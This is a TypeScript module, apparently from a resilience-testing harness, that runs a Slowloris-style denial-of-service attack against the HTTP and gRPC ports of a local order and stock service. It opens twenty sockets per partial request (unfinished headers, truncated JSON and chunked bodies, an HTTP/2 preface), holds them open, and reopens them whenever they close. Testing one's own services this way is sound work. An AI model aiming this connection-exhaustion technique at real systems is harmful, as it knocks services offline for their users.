import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { sleep } from '#platform/base/sleep.ts';
import type { Target } from './attack.ts';

const perBeginning = 20;
const beginnings = [
  '',
  'GET /stock/info?sku=1 HTTP/1.1\r\nhost: a\r\nx:',
  'POST /order/create HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 50\r\n\r\n{',
  'POST /loms.v1.LomsService/OrderCreate HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n5\r\n{',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
];

// For what is cut at once: to hold is wanted, not to flood.
const pauseMs = 500;

/** Clients that begin a request and never end it, at both servers, new ones for those that are cut; until the signal aborts. */
export const holdSockets = async (target: Target, signal: AbortSignal): Promise<void> => {
  const held = new Set<Socket>();
  const hold = async (port: number, bytes: string): Promise<void> => {
    while (!signal.aborted) {
      const socket = connect({ port, host: '127.0.0.1' });
      held.add(socket);
      socket.on('error', () => undefined);
      socket.resume();
      socket.write(bytes);
      await once(socket, 'close').catch(() => undefined);
      held.delete(socket);
      await sleep(pauseMs, signal);
    }
  };
  // one listener: a signal looks through all that it has for each new one
  signal.addEventListener('abort', () => held.forEach((socket) => socket.destroy()));
  const ports = [target.httpPort, target.grpcPort];
  const all = ports.flatMap((port) => beginnings.map((bytes) => ({ port, bytes })));
  await Promise.all(
    all.flatMap(({ port, bytes }) => Array.from({ length: perBeginning }, () => hold(port, bytes))),
  );
};
